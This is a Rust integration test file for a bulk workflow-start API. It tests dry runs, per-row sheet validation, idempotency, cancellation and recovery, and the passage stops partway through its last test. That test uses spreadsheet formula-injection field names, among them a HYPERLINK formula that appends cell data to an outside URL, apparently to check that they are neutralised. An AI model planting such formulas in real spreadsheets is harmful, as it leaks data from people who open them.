//! Many starts at once: what a dry run says, what is started, and that nothing is started twice.

use std::collections::BTreeSet;
use std::fmt::Write as _;

use serde_json::{Value, json};
use testkit::database::TestDatabase;
use testkit::workbook::{Cell, workbook};

use crate::support::{Answer, Server, committee, pdf, plain};

testkit::on_both_databases!(
    a_dry_run_names_every_wrong_row_and_starts_nothing,
    a_dry_run_is_understood_or_nothing_is_started,
    a_row_that_cannot_be_read_tells_all_that_is_wrong_with_it,
    a_dry_run_names_what_nobody_read,
    the_right_rows_are_started_and_the_wrong_ones_hold_up_nobody,
    rows_are_started_once_whoever_works_on_them,
    of_several_processes_one_prepares_the_rows,
    rows_that_cannot_be_opened_hold_up_nobody_and_are_given_up,
    rows_outlast_a_storage_that_is_away,
    a_list_takes_what_a_row_does_not_say_from_the_request,
    what_is_wrong_for_all_rows_is_said_once,
    what_was_not_started_is_cancelled,
    the_same_request_under_a_key_is_accepted_once,
    nothing_is_started_for_who_may_not_send_any_more,
    a_sheet_says_who_is_asked_for_a_one_time_code,
    a_cell_without_a_value_is_not_as_if_nothing_were_said,
);

mod sql {
    store::statements! {
        pub static BREAK_ROW = "UPDATE bulk_row SET request = $3 WHERE bulk_id = $1 AND number = $2";
        pub static BREAK_ORIGIN = "UPDATE bulk_start SET origin = 'nowhere' WHERE id = $1";
    }
}

const PATH: &str = "/api/v3/workflows/bulk";

/// A form with a sheet beside the start that holds for all rows.
fn form(server: &Server, token: &str, query: &str, parts: &[(&str, &[u8])]) -> Answer {
    let mut body = Vec::new();
    for (name, content) in parts {
        let file = if *name == "file" { "; filename=\"rows\"" } else { "" };
        body.extend(format!("--x\r\nContent-Disposition: form-data; name=\"{name}\"{file}\r\n\r\n").bytes());
        body.extend_from_slice(content);
        body.extend(b"\r\n");
    }
    body.extend(b"--x--\r\n");
    server.send(
        server
            .request("POST", &format!("{PATH}{query}"), Some(token))
            .header("accept-language", "en")
            .header("content-type", "multipart/form-data; boundary=x")
            .body(body),
    )
}

fn common(template: i64) -> Vec<u8> {
    json!({"template_id": template}).to_string().into_bytes()
}

/// A workbook of the usual template: rows 2, 3 and 8 are right, the others wrong.
fn sheet() -> Vec<u8> {
    let row = |cells: [&'static str; 8]| cells.map(Cell::Text).to_vec();
    let mut rows = vec![
        row([
            "workflow_name",
            "1.name",
            "1.email",
            "2.name",
            "2.email",
            "employer",
            "grade",
            "salary",
        ]),
        row([
            "계약 2",
            "김민준",
            "minjun@example.com",
            "山田太郎",
            "taro@example.com",
            "한빛",
            "A",
            "",
        ]),
        row([
            "계약 3",
            "Ann",
            "010-1234-5678",
            "Bob",
            "bob@example.com",
            "",
            "",
            "1000",
        ]),
        row(["계약 4", "Ann", "ann@", "Bob", "bob@example.com", "", "", ""]),
        row([
            "계약 5",
            "Ann",
            "ann@example.com",
            "",
            "bob@example.com",
            "",
            "Z",
            "much",
        ]),
        row(["", "Ann", "ann@example.com", "Bob", "bob@example.com", "", "", ""]),
        Vec::new(),
        row(["계약 8", "Ann", "ann@example.com", "Bob", "bob@example.com", "", "", ""]),
        row([
            "계약 9",
            "Ann",
            "ann@example.com",
            "Bob \u{10ffff}",
            "bob@example.com",
            "",
            "",
            "",
        ]),
    ];
    rows[7][7] = Cell::Number("3000000");
    workbook(&rows)
}

fn wrong_rows(list: &Value) -> Vec<(u64, Vec<(String, String)>)> {
    let rows = list.as_array().expect("rows");
    rows.iter()
        .map(|row| {
            let errors = row["errors"].as_array().expect("errors").iter();
            let text = |value: &Value| value.as_str().expect("a text").to_owned();
            let mut errors: Vec<_> = errors
                .map(|error| {
                    assert!(!error["message"].as_str().expect("words").is_empty());
                    (text(&error["path"]), text(&error["code"]))
                })
                .collect();
            errors.sort();
            (row["row"].as_u64().expect("a number"), errors)
        })
        .collect()
}

fn expected() -> Vec<(u64, Vec<(String, String)>)> {
    let fault = |path: &str, code: &str| (path.to_owned(), code.to_owned());
    vec![
        (4, vec![fault("1.email", "invalid-contact")]),
        (
            5,
            vec![
                fault("2.name", "required"),
                fault("grade", "invalid-option"),
                fault("salary", "invalid-number"),
            ],
        ),
        (6, vec![fault("workflow_name", "required")]),
        (9, vec![fault("2.name", "missing-glyph")]),
    ]
}

/// The names of all documents, each as often as it is there.
fn names(server: &Server, token: &str) -> Vec<String> {
    let mut names = Vec::new();
    let mut cursor = String::new();
    loop {
        let page = server.get(&format!("/api/v3/workflows?limit=100{cursor}"), token).ok();
        let list = page["workflow_list"].as_array().expect("a list");
        names.extend(
            list.iter()
                .map(|one| one["workflow_name"].as_str().expect("a name").to_owned()),
        );
        match page["next_cursor"].as_str() {
            Some(next) => cursor = format!("&cursor={next}"),
            None => break,
        }
    }
    names.sort();
    names
}

/// Works until nothing is left to do.
fn work(server: &Server) -> usize {
    let mut decided = 0;
    loop {
        match server.app.run_bulk_starts("here").expect("a round") {
            0 => return decided,
            rows => decided += rows,
        }
    }
}

fn counts(progress: &Value) -> [u64; 5] {
    ["total", "waiting", "started", "failed", "cancelled"].map(|name| progress[name].as_u64().expect(name))
}

fn a_dry_run_names_every_wrong_row_and_starts_nothing(database: &TestDatabase) {
    let server = Server::new(database);
    let (_, token, template) = server.with_company("acme");
    let start = common(template);
    let sheet = sheet();
    let dry = form(
        &server,
        &token,
        "",
        &[("file", &sheet), ("start", &start), ("dry_run", b"true")],
    )
    .ok();
    assert_eq!(
        (&dry["total"], &dry["valid"], &dry["wrong"]),
        (&json!(7), &json!(3), &json!(4))
    );
    assert_eq!(wrong_rows(&dry["row_list"]), expected());
    let in_korean = form(
        &server,
        &token,
        "?dry_run=1&lang=ko",
        &[("file", &sheet), ("start", &start)],
    )
    .ok();
    let message = |answer: &Value| answer["row_list"][0]["errors"][0]["message"].clone();
    assert_ne!(message(&dry), message(&in_korean), "in the caller's language");
    assert_eq!(work(&server), 0);
    assert!(names(&server, &token).is_empty());
}

fn a_dry_run_is_understood_or_nothing_is_started(database: &TestDatabase) {
    let server = Server::new(database);
    let (_, token, template) = server.with_company("acme");
    let (sheet, start) = (sheet(), common(template));
    let mut list: Value = serde_json::from_slice(&start).expect("JSON");
    list["dry_run"] = json!(true);
    let meant = list.to_string();
    // Where a body of JSON has it.
    let dry = form(&server, &token, "", &[("file", &sheet), ("start", meant.as_bytes())]).ok();
    assert_eq!(dry["wrong"], 4);
    for query in ["?dry_run=t", "?dry_run=maybe"] {
        let answer = form(&server, &token, query, &[("file", &sheet), ("start", &start)]);
        assert_eq!(
            answer.faults(),
            [("dry_run".to_owned(), "wrong-type".to_owned())],
            "{query}"
        );
    }
    let parts = [("file", sheet.as_slice()), ("start", &start), ("dry_run", b"t")];
    let answer = form(&server, &token, "", &parts);
    assert_eq!(answer.faults(), [("dry_run".to_owned(), "wrong-type".to_owned())]);
    assert_eq!(work(&server), 0);
    for no in ["?dry_run=false", "?dry_run=0", "?dry_run="] {
        let made = form(&server, &token, no, &[("file", &sheet), ("start", &start)]).ok();
        assert!(made["bulk_id"].is_i64(), "{no}: {made}");
    }
}

fn a_row_that_cannot_be_read_tells_all_that_is_wrong_with_it(database: &TestDatabase) {
    let server = Server::new(database);
    let (_, token, template) = server.with_company("acme");
    let start = common(template);
    let csv = "workflow_name,1.name,1.email,1.one_time_code,salary,grade\nA,Ann,ann@,perhaps,much,Z\n";
    let parts = [("file", csv.as_bytes()), ("start", start.as_slice())];
    let dry = form(&server, &token, "?dry_run=1", &parts).ok();
    let wrong = wrong_rows(&dry["row_list"]);
    assert_eq!(wrong[0].1.len(), 5, "{wrong:?}");
    let id = form(&server, &token, "", &parts).ok()["bulk_id"].clone();
    work(&server);
    let made = server.get(&format!("{PATH}/{id}?status=failed"), &token).ok();
    assert_eq!(wrong_rows(&made["row_list"]), wrong);
}

fn a_dry_run_names_what_nobody_read(database: &TestDatabase) {
    let server = Server::new(database);
    let (_, token, template) = server.with_company("acme");
    let mut start: Value = serde_json::from_slice(&common(template)).expect("JSON");
    start["is_embed"] = json!(true);
    let mut list = start.clone();
    list["is_preview"] = json!(true);
    list["workflow_list"] = json!([
        {"workflow_name": "A", "recipient_list": [{"order": 1, "name": "Ann", "email": "ann@example.com", "nmae": ""}]},
        {"workflow_name": "B", "coment": "x"},
    ]);
    let ask = |query: &str| server.post(&format!("{PATH}{query}"), Some(&token), &list).ok();
    assert_eq!(
        ask("?dry_run=1")["ignored_members"],
        json!([
            "workflow_list[0].recipient_list[0].nmae",
            "workflow_list[1].coment",
            "is_embed",
            "is_preview"
        ])
    );
    assert_eq!(ask("").get("ignored_members"), None, "only a dry run tells");
    let start = start.to_string();
    let sheet = sheet();
    let parts = [("file", sheet.as_slice()), ("start", start.as_bytes())];
    let dry = form(&server, &token, "?dry_run=1", &parts).ok();
    assert_eq!(dry["ignored_members"], json!(["is_embed"]));
}

/// A document must not go out without its access code because a formula found none.
fn a_cell_without_a_value_is_not_as_if_nothing_were_said(database: &TestDatabase) {
    let server = Server::new(database);
    let (_, token, template) = server.with_company("acme");
    let row = |password, salary| {
        let texts = ["계약", "Ann", "ann@example.com", "Bob", "bob@example.com"].map(Cell::Text);
        texts.into_iter().chain([password, salary]).collect::<Vec<_>>()
    };
    let header = [
        "workflow_name",
        "1.name",
        "1.email",
        "2.name",
        "2.email",
        "1.password",
        "salary",
    ];
    let sheet = workbook(&[
        header.map(Cell::Text).to_vec(),
        row(Cell::Error("#N/A"), Cell::Number("1000")),
        row(Cell::Formula("VLOOKUP(B3,X:Y,2)"), Cell::Error("#REF!")),
        row(Cell::Text("12345"), Cell::Nothing),
    ]);
    let accepted = form(&server, &token, "", &[("file", &sheet), ("start", &common(template))]).ok();
    assert_eq!(work(&server), 1);
    let failed = server
        .get(&format!("{PATH}/{}?status=failed", accepted["bulk_id"]), &token)
        .ok();
    let fault = |path: &str| (path.to_owned(), "sheet-cell".to_owned());
    assert_eq!(
        wrong_rows(&failed["row_list"]),
        [
            (2, vec![fault("1.password")]),
            (3, vec![fault("1.password"), fault("salary")]),
        ]
    );
    assert_eq!(names(&server, &token), ["계약"]);
}

fn the_right_rows_are_started_and_the_wrong_ones_hold_up_nobody(database: &TestDatabase) {
    let server = Server::new(database);
    let (_, token, template) = server.with_company("acme");
    let accepted = form(&server, &token, "", &[("file", &sheet()), ("start", &common(template))]).ok();
    assert_eq!(accepted["status"], "running");
    assert_eq!(counts(&accepted), [7, 7, 0, 0, 0]);
    assert!(names(&server, &token).is_empty(), "not while the caller waits");
    assert_eq!(work(&server), 7);
    let path = format!("{PATH}/{}", accepted["bulk_id"]);
    let done = server.get(&path, &token).ok();
    assert_eq!((&done["status"], counts(&done)), (&json!("finished"), [7, 0, 3, 4, 0]));
    let failed = server.get(&format!("{path}?status=failed"), &token).ok();
    assert_eq!(wrong_rows(&failed["row_list"]), expected(), "as the dry run said");
    assert_eq!(names(&server, &token), ["계약 2", "계약 3", "계약 8"]);
    // Page by page; each started row leads to its document.
    let first = server.get(&format!("{path}?limit=2"), &token).ok();
    assert_eq!(first["next_cursor"], "3");
    let id = &first["row_list"][1]["workflow_id"];
    let seen = server.get(&format!("/api/v3/workflows/{id}"), &token).ok();
    assert_eq!(
        (&seen["workflow_name"], &seen["field_list"][0]["value"]),
        (&json!("계약 3"), &json!("1000"))
    );
    let last = server.get(&format!("{path}?cursor=3&limit=100"), &token).ok();
    assert_eq!(last["row_list"].as_array().map(Vec::len), Some(5));
    assert_eq!(work(&server), 0, "what is over is over");
    // Kept for a month, then gone with what it said of people.
    server.clock.advance(31 * 24 * 60 * 60);
    assert_eq!(server.app.sweep_bulk_starts().expect("swept"), 1);
    let token = server.token("acme", "owner@example.com");
    server.get(&path, &token).problem(404);
}

/// As where a server was killed and two have come up, or as two nodes do: everybody starts what waits.
fn of_several_processes_one_prepares_the_rows(database: &TestDatabase) {
    let server = Server::new(database);
    let (company, token, _) = server.with_company("acme");
    let template = server.template(&company, &plain(1, "end"));
    let start = common(template);
    let accept = |name: &str| {
        let csv = format!("workflow_name,1.name,1.email\n{name},Ann,ann@example.com\n");
        let accepted = form(&server, &token, "", &[("file", csv.as_bytes()), ("start", &start)]).ok();
        accepted["bulk_id"].as_i64().expect("a number")
    };
    let take_elsewhere = |id: i64| {
        let now = server.app.now();
        let until = now.checked_add(jiff::SignedDuration::from_secs(60)).expect("a time");
        let claim = server
            .app
            .store
            .write(move |tx| store::bulk::claim(tx, store::bulk::BulkId(id), "elsewhere", now, until));
        assert!(claim.expect("the database answers"), "nobody else has it");
    };
    let counted = |id: i64| counts(&server.get(&format!("{PATH}/{id}"), &token).ok());

    let first = accept("first");
    take_elsewhere(first);
    assert_eq!(work(&server), 0, "another process works on it");
    assert_eq!(counted(first), [1, 1, 0, 0, 0]);
    server.clock.advance(61);
    assert_eq!(work(&server), 1, "that one has not been heard of for a minute");
    assert_eq!(counted(first), [1, 0, 1, 0, 0]);

    let second = accept("second");
    take_elsewhere(second);
    server
        .app
        .recover_bulk_starts(|owner| owner == "somebody")
        .expect("the database answers");
    assert_eq!(work(&server), 0, "it is not that one which is dead");
    server
        .app
        .recover_bulk_starts(|owner| owner == "elsewhere")
        .expect("the database answers");
    assert_eq!(work(&server), 1);
    assert_eq!(counted(second), [1, 0, 1, 0, 0]);
}

fn rows_are_started_once_whoever_works_on_them(database: &TestDatabase) {
    let server = Server::new(database);
    let (company, token, _) = server.with_company("acme");
    let template = server.template(&company, &plain(1, "end"));
    let mut csv = "workflow_name,1.name,1.email\n".to_owned();
    for number in 0..60 {
        writeln!(csv, "document {number:02},Ann,ann{number}@example.com").expect("a text grows");
    }
    let start = common(template);
    let accepted = form(&server, &token, "", &[("file", csv.as_bytes()), ("start", &start)]).ok();
    std::thread::scope(|scope| {
        for _ in 0..4 {
            scope.spawn(|| work(&server));
        }
    });
    work(&server);
    let done = server.get(&format!("{PATH}/{}", accepted["bulk_id"]), &token).ok();
    assert_eq!(
        (&done["status"], counts(&done)),
        (&json!("finished"), [60, 0, 60, 0, 0])
    );
    let names = names(&server, &token);
    assert_eq!(names.len(), 60);
    assert_eq!(names.iter().collect::<BTreeSet<_>>().len(), 60, "each once: {names:?}");
    let (_, letters) = server.drain();
    assert_eq!(letters, 60, "nobody is asked twice");
}

/// So many rows of a template of one step, accepted.
fn accepted_rows(server: &Server, token: &str, template: i64, rows: u32) -> Value {
    let mut csv = "workflow_name,1.name,1.email\n".to_owned();
    for number in 0..rows {
        writeln!(csv, "document {number:02},Ann,ann{number}@example.com").expect("a text grows");
    }
    let start = common(template);
    form(server, token, "", &[("file", csv.as_bytes()), ("start", &start)]).ok()["bulk_id"].clone()
}

/// Lets the pauses between the tries of a row pass, with the job at work after each.
fn all_tries_pass(server: &Server) {
    for seconds in [60, 10 * 60, 60 * 60, 6 * 60 * 60] {
        server.clock.advance(seconds);
        work(server);
    }
}

fn rows_that_cannot_be_opened_hold_up_nobody_and_are_given_up(database: &TestDatabase) {
    let server = Server::new(database);
    let (company, token, _) = server.with_company("acme");
    let template = server.template(&company, &plain(1, "end"));
    let first = accepted_rows(&server, &token, template, 5);
    // The sheet's first row is its second line. One was encrypted with another key, one was written by another version.
    let of_another_version = server.app.vault.encrypt(app::Purpose::BulkRow, b"{\"request\": 7}");
    for (number, request) in [(2_i64, b"sealed elsewhere".to_vec()), (3, of_another_version)] {
        let bulk = first.as_i64().expect("a number");
        server
            .app
            .store
            .write(move |tx| tx.execute_one(&sql::BREAK_ROW, store::values![bulk, number, request.clone()]))
            .expect("a row is broken");
    }
    let path = format!("{PATH}/{first}");
    let so_far = |path: &str| {
        let progress = server.get(path, &token).ok();
        (progress["status"].clone(), counts(&progress))
    };
    assert_eq!(work(&server), 5);
    assert_eq!(
        so_far(&path),
        (json!("running"), [5, 2, 3, 0, 0]),
        "the others are started"
    );
    assert_eq!(work(&server), 0, "those rest");
    all_tries_pass(&server);
    assert_eq!(so_far(&path), (json!("finished"), [5, 0, 3, 2, 0]));
    let failed = server.get(&format!("{path}?status=failed"), &token).ok();
    let of_ours = vec![(String::new(), "internal".to_owned())];
    assert_eq!(
        wrong_rows(&failed["row_list"]),
        [(2, of_ours.clone()), (3, of_ours.clone())]
    );
    // The same where the bulk start itself cannot be read.
    let second = accepted_rows(&server, &token, template, 2);
    let bulk = second.as_i64().expect("a number");
    server
        .app
        .store
        .write(move |tx| tx.execute_one(&sql::BREAK_ORIGIN, store::values![bulk]))
        .expect("it is broken");
    work(&server);
    all_tries_pass(&server);
    assert_eq!(
        so_far(&format!("{PATH}/{second}")),
        (json!("finished"), [2, 0, 0, 2, 0])
    );
}

fn rows_outlast_a_storage_that_is_away(database: &TestDatabase) {
    let server = Server::new(database);
    let (company, token, _) = server.with_company("acme");
    let template = server.template(&company, &plain(1, "end"));
    let bulk = accepted_rows(&server, &token, template, 20);
    let file = {
        let details = server.app.template(&company, domain::TemplateId(template));
        details.expect("the template").stored.version.pdf
    };
    let bytes = server.app.blobs.get(&file).expect("its file");
    server.app.blobs.delete(&file).expect("away");
    // Five minutes, at the job's own pace of two rounds a second: of each rest one row is tried.
    let mut tried = 0;
    for _ in 0..5 * 60 {
        for _ in 0..2 {
            tried += server.app.run_bulk_starts("test").expect("a round");
        }
        server.clock.advance(1);
    }
    assert_eq!(tried, 5 * 60 / 10);
    #[expect(clippy::disallowed_methods, reason = "it is needed, and was away")]
    server.app.blobs.put(&bytes).expect("it is back");
    server.clock.advance(10 * 60);
    work(&server);
    let done = server.get(&format!("{PATH}/{bulk}"), &token).ok();
    assert_eq!(
        (&done["status"], counts(&done)),
        (&json!("finished"), [20, 0, 20, 0, 0])
    );
}

fn a_list_takes_what_a_row_does_not_say_from_the_request(database: &TestDatabase) {
    let server = Server::new(database);
    let (_, token, template) = server.with_company("acme");
    let body = json!({
        "template_id": template,
        "workflow_name": "For all",
        "language": "en",
        "recipient_list": [
            {"order": 1, "name": "Employer", "email": "employer@example.com"},
            {"order": 2, "name": "Nobody", "email": "nobody@example.com"},
        ],
        "field_list": [{"name": "employer", "value": "All Ltd"}, {"name": "salary", "value": 1}],
        "workflow_list": [
            {"recipient_list": [{"order": 2, "name": "Bob", "email": "bob@example.com"}], "field_list": [{"name": "salary", "value": 2}]},
            {"workflow_name": "Own", "language": "ko"},
            {"recipient_list": [{"order": 2, "name": 7, "email": "bob@example.com"}]},
            {"template_id": template + 1},
        ],
    });
    let dry = server.post(&format!("{PATH}?dry_run=true"), Some(&token), &body).ok();
    assert_eq!(
        wrong_rows(&dry["row_list"]),
        [
            (3, vec![("recipient_list[0].name".to_owned(), "wrong-type".to_owned())]),
            (4, vec![("template_id".to_owned(), "not-allowed".to_owned())])
        ]
    );
    let accepted = server.post(PATH, Some(&token), &body).ok();
    assert_eq!(
        counts(&accepted),
        [4, 2, 0, 2, 0],
        "what cannot be read is known at once"
    );
    work(&server);
    let rows = server
        .get(&format!("{PATH}/{}?status=started", accepted["bulk_id"]), &token)
        .ok();
    let seen = |row: usize| {
        let id = &rows["row_list"][row]["workflow_id"];
        server.get(&format!("/api/v3/workflows/{id}"), &token).ok()
    };
    let (first, second) = (seen(0), seen(1));
    assert_eq!(
        (
            &first["workflow_name"],
            &first["language"],
            &first["steps"][0]["name"],
            &first["steps"][1]["name"]
        ),
        (&json!("For all"), &json!("en-US"), &json!("Employer"), &json!("Bob"))
    );
    let values: Vec<&Value> = first["field_list"]
        .as_array()
        .expect("fields")
        .iter()
        .map(|field| &field["value"])
        .collect();
    assert_eq!(values, ["All Ltd", "2"]);
    assert_eq!(
        (
            &second["workflow_name"],
            &second["language"],
            &second["steps"][1]["name"]
        ),
        (&json!("Own"), &json!("ko-KR"), &json!("Nobody"))
    );
}

fn what_is_wrong_for_all_rows_is_said_once(database: &TestDatabase) {
    let server = Server::new(database);
    let (_, token, template) = server.with_company("acme");
    let wrong = json!({
        "template_id": template, "language": "fr", "expiry_date": "2025-01-01 00:00:00", "comment": "\u{10ffff}",
        "recipient_list": [{"order": 1, "name": "Ann", "email": "ann@"}, {"order": 3, "name": "Eve", "email": "eve@example.com"}],
        "field_list": [{"name": "emploier", "value": "x"}, {"name": "grade", "value": "Z"}],
        "cc_list": [{"name": "Copy"}],
        "export_api_info": {"api_type": "SOME", "is_embed": false},
    });
    let expected = [
        ("cc_list[0].email", "required"),
        ("comment", "missing-glyph"),
        ("expiry_date", "past-date-time"),
        ("export_api_info.api_type", "not-allowed"),
        ("export_api_info.url", "required"),
        ("field_list[0].name", "unknown-field"),
        ("field_list[1].value", "invalid-option"),
        ("language", "invalid-language"),
        ("recipient_list[0].email", "invalid-contact"),
        ("recipient_list[1].order", "unknown-step"),
    ]
    .map(|(path, code)| (path.to_owned(), code.to_owned()));
    let mut list = wrong.clone();
    list["workflow_list"] = json!([{"workflow_name": "one"}, {"workflow_name": "two"}]);
    let start = wrong.to_string();
    for query in ["", "?dry_run=1"] {
        let path = format!("{PATH}{query}");
        assert_eq!(server.post(&path, Some(&token), &list).faults(), expected, "{query}");
        let parts: [(&str, &[u8]); 2] = [("file", b"workflow_name\none\n"), ("start", start.as_bytes())];
        assert_eq!(form(&server, &token, query, &parts).faults(), expected, "{query}");
    }
    let wrong_offset = server.post(
        &format!("{PATH}?offset=soon"),
        Some(&token),
        &json!({
            "template_id": template, "workflow_list": [{}],
        }),
    );
    assert_eq!(
        wrong_offset.faults(),
        [("offset".to_owned(), "invalid-offset".to_owned())]
    );
    // What it leaves to the rows is not missed, and is theirs to say.
    let shared = json!({
        "template_id": template, "expiry_date": "2026-01-31",
        "recipient_list": [{"order": 1, "password": "4711"}, {"order": 2, "name": "Bob"}],
        "workflow_list": [
            {"workflow_name": "one", "recipient_list": [
                {"order": 1, "name": "Ann", "email": "ann@example.com"}, {"order": 2, "name": "Bob", "email": "bob@example.com"},
            ]},
            {"recipient_list": [{"order": 1, "name": "Ann", "email": "ann@example.com"}]},
        ],
    });
    let dry = server.post(&format!("{PATH}?dry_run=1"), Some(&token), &shared).ok();
    assert_eq!(
        wrong_rows(&dry["row_list"]),
        [(
            2,
            vec![
                ("recipient_list[1].email".to_owned(), "required".to_owned()),
                ("workflow_name".to_owned(), "required".to_owned()),
            ]
        )]
    );
}

fn what_was_not_started_is_cancelled(database: &TestDatabase) {
    let server = Server::new(database);
    let (_, token, template) = server.with_company("acme");
    let accepted = form(&server, &token, "", &[("file", &sheet()), ("start", &common(template))]).ok();
    let path = format!("{PATH}/{}", accepted["bulk_id"]);
    let cancel = || server.post(&format!("{path}/cancel"), Some(&token), &json!({}));
    let cancelled = cancel().ok();
    assert_eq!(
        (&cancelled["status"], counts(&cancelled)),
        (&json!("cancelled"), [7, 0, 0, 0, 7])
    );
    assert_eq!(work(&server), 0);
    assert!(names(&server, &token).is_empty());
    let again = cancel().problem(409);
    assert_eq!(
        (&again["code"], &again["state"]),
        (&json!("bulk-finished"), &json!("cancelled"))
    );
    let words = again["detail"].as_str().expect("words");
    assert!(words.contains("bulk send"), "{words}");
}

fn the_same_request_under_a_key_is_accepted_once(database: &TestDatabase) {
    let server = Server::new(database);
    let (_, token, template) = server.with_company("acme");
    let send = |name: &str| {
        let body = json!({
            "template_id": template, "workflow_name": name,
            "recipient_list": [
                {"order": 1, "name": "Ann", "email": "ann@example.com"}, {"order": 2, "name": "Bob", "email": "bob@example.com"},
            ],
            "workflow_list": [{}, {}],
        });
        let request = server.request("POST", PATH, Some(&token));
        server.send(request.header("idempotency-key", "monday").json(&body))
    };
    let first = send("one").ok();
    work(&server);
    assert_eq!(send("one").ok(), first);
    assert_eq!(work(&server), 0);
    assert_eq!(names(&server, &token), ["one", "one"]);
    assert_eq!(
        send("other").faults(),
        [("Idempotency-Key".to_owned(), "idempotency-key-reused".to_owned())]
    );
}

fn nothing_is_started_for_who_may_not_send_any_more(database: &TestDatabase) {
    let server = Server::new(database);
    let (company, token, template) = server.with_company("acme");
    server.member(&company, "sender@example.com", domain::Role::Sender);
    let sender = server.token("acme", "sender@example.com");
    let accepted = form(
        &server,
        &sender,
        "",
        &[("file", &sheet()), ("start", &common(template))],
    )
    .ok();
    server
        .app
        .disable_member(&company, "sender@example.com")
        .expect("the member is disabled");
    work(&server);
    let done = server.get(&format!("{PATH}/{}", accepted["bulk_id"]), &token).ok();
    assert_eq!(counts(&done), [7, 0, 0, 7, 0]);
    assert_eq!(done["row_list"][0]["errors"][0]["code"], "role");
}

#[test]
fn what_is_wrong_with_the_request_as_a_whole_is_refused() {
    let server = Server::with(&TestDatabase::sqlite(), |settings, _| {
        settings.bulk.rows = 2;
        settings.bulk.bytes = 10_000;
    });
    let (_, token, template) = server.with_company("acme");
    let start = common(template);
    let faults = |parts: &[(&str, &[u8])]| form(&server, &token, "", parts).faults();
    let one = |path: &str, code: &str| vec![(path.to_owned(), code.to_owned())];
    assert_eq!(faults(&[("start", &start)]), one("file", "required"));
    assert_eq!(faults(&[("file", b"a\nb\n")]), one("start", "required"));
    assert_eq!(
        faults(&[("file", b"a\nb\n"), ("start", b"{")]),
        one("start", "not-json-text")
    );
    assert_eq!(
        faults(&[("file", b"a\nb\n"), ("start", b"[1]")]),
        one("start", "wrong-type")
    );
    assert_eq!(
        faults(&[("file", b"a\nb\n"), ("start", b"{}")]),
        one("template_id", "required")
    );
    assert_eq!(
        faults(&[("file", b"a\nb\n"), ("start", &common(template + 1))]),
        one("template_id", "unknown-template")
    );
    let sheet = |file: &[u8]| faults(&[("file", file), ("start", &start)]);
    assert_eq!(sheet(b"workflow_name\n"), one("file", "sheet-empty"));
    assert_eq!(sheet(b"\n"), one("file", "sheet-empty"));
    let words = |file: &[u8]| {
        let refused = form(&server, &token, "", &[("file", file), ("start", &start)]).problem(422);
        refused["errors"][0]["message"].as_str().expect("words").to_owned()
    };
    let open_document = [
        b"PK\x03\x04".as_slice(),
        &[0; 26],
        b"mimetypeapplication/vnd.oasis.opendocument.spreadsheet",
    ]
    .concat();
    for (file, kind) in [
        (pdf().as_slice(), "This is a PDF file."),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "This is a PDF file."),
        (b"\x89PNG\r\n\x1a\n", "This is a picture."),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "(XLS)"),
        (&open_document, "OpenDocument"),
        (b"\x7fELF\x02\x00\xff", "not a readable CSV file or XLSX workbook"),
    ] {
        let words = words(file);
        assert!(
            words.contains(kind) && words.contains("XLSX") && words.contains("CSV"),
            "{words}"
        );
        assert_eq!(sheet(file), one("file", "sheet-unreadable"));
    }
    // Text of an unknown encoding is text; here half a character of UTF-16, and bytes that are in no text.
    assert_eq!(sheet(b"\xff\xfea\x00\n"), one("file", "sheet-not-utf8"));
    assert_eq!(sheet(b"\xff\xff\n"), one("file", "sheet-not-utf8"));
    assert_eq!(sheet(b"PK\x03\x04"), one("file", "sheet-unreadable"));
    assert_eq!(sheet(b"workflow_name\na\nb\nc\n"), one("file", "too-many"));
    assert_eq!(
        sheet(b"workflow_name,3.name,1.boss.name,1.shoe,nothing,workflow_name\na\n"),
        [
            ("3.name".to_owned(), "unknown-field".to_owned()),
            ("1.boss.name".to_owned(), "unknown-field".to_owned()),
            ("1.shoe".to_owned(), "unknown-field".to_owned()),
            ("nothing".to_owned(), "unknown-field".to_owned()),
            ("workflow_name".to_owned(), "duplicate".to_owned()),
        ]
    );
    let large = vec![b'a'; 100_000];
    form(&server, &token, "", &[("file", &large), ("start", &start)]).problem(413);
    let list = |body: Value| server.post(PATH, Some(&token), &body);
    assert_eq!(
        list(json!({"template_id": template, "workflow_list": [{}, {}, {}]})).faults(),
        one("workflow_list", "too-many")
    );
    assert_eq!(
        list(json!({"template_id": template})).faults(),
        one("workflow_list", "required")
    );
    assert!(names(&server, &token).is_empty());
}

fn a_sheet_says_who_is_asked_for_a_one_time_code(database: &TestDatabase) {
    let server = Server::new(database);
    let (company, token, _) = server.with_company("acme");
    let template = server.template(&company, &plain(1, "end"));
    let start = common(template);
    let send = |query: &str, cells: &[&str]| {
        let mut csv = "workflow_name,1.name,1.email,1.one_time_code\n".to_owned();
        for (number, cell) in cells.iter().enumerate() {
            writeln!(csv, "document {number},Ann,ann@example.com,{cell}").expect("a text grows");
        }
        form(&server, &token, query, &[("file", csv.as_bytes()), ("start", &start)]).ok()
    };
    let dry = send("?dry_run=1", &["Y", "perhaps"]);
    assert_eq!(
        wrong_rows(&dry["row_list"]),
        [(3, vec![("1.one_time_code".to_owned(), "invalid-check".to_owned())])]
    );
    send("", &["Y", "N", "", "TRUE", "0", "1"]);
    work(&server);
    let page = server.get("/api/v3/workflows?limit=100", &token).ok();
    let mut asked: Vec<(String, bool)> = page["workflow_list"]
        .as_array()
        .expect("a list")
        .iter()
        .map(|one| {
            let (company, id) = (company.clone(), one["workflow_id"].as_i64().expect("an id"));
            let stored = server
                .app
                .store
                .read(move |tx| store::workflow::load(tx, &company, domain::WorkflowId(id)))
                .expect("the store")
                .expect("the workflow");
            let name = one["workflow_name"].as_str().expect("a name").to_owned();
            (name, stored.writers[0].asks_one_time_code)
        })
        .collect();
    asked.sort();
    let asked: Vec<bool> = asked.into_iter().map(|(_, asks)| asks).collect();
    assert_eq!(asked, [true, false, false, true, false, true]);
}

#[test]
fn the_sheet_of_a_template_is_one_that_is_taken() {
    let server = Server::new(&TestDatabase::sqlite());
    let (company, token, template) = server.with_company("acme");
    let mut named = plain(1, "end");
    let mut formulas = Vec::new();
    for name in [
        "language",
        "=HYPERLINK(\"http://example.com?\"&A1)",
        "+1",
        "-2+3",
        "@SUM(A1)",
        "'=1",
        "a;=1",
    ] {
        named["fields"][0]["name"] = json!(name);
        formulas.push(server.template(&company, &named));
    }
    for template in [template, server.template(&company, &committee())]
        .into_iter()
        .chain(formulas)
    {
        let answer = server.get(&format!("{PATH}/sheet?template_id={template}"), &token);
        assert_eq!(answer.status, 200);
